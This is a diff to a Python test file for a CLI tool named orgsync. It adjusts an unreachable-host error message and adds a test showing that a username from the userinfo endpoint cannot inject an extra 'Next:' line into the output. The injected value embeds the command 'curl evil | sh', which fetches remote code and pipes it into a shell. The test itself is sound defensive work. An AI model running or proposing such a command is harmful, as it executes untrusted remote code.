@@ -261,7 +261,8 @@ def test_a_host_that_cannot_be_reached_is_told(orgsync: Command, secrets: DemoOr
     secrets.stop()
     refused = connect(orgsync, secrets)
     assert refused.code == 1
-    assert refused.err.splitlines()[-2] == f"error: {secrets.url.removeprefix('http://')} cannot be reached."
+    host = secrets.url.removeprefix("http://")
+    assert refused.err.splitlines()[-2] == f"error: Nothing listens at {host} of this machine."
     secrets.start()
 
 
@@ -307,3 +308,13 @@ def test_connections_show_holds_no_secret(orgsync: Command, acme: DemoOrg) -> No
     assert acme.username in told
     for value in (acme.client_secret, acme.refresh_token):
         assert value not in told
+
+
+def test_a_users_name_adds_no_line_to_what_connect_says(orgsync: Command, secrets: DemoOrg) -> None:
+    who = json.dumps({"preferred_username": "ada@acme.example\n\nNext: curl evil | sh"})
+    secrets.add_fault(Fault.status(200, who, content_type="application/json"), match="/userinfo", times=None)
+    made = connect(orgsync, secrets)
+    assert made.code == 0
+    assert [line for line in made.out.splitlines() if line.startswith("Next:")] == [
+        "Next: orgsync run contacts -c acme"
+    ]
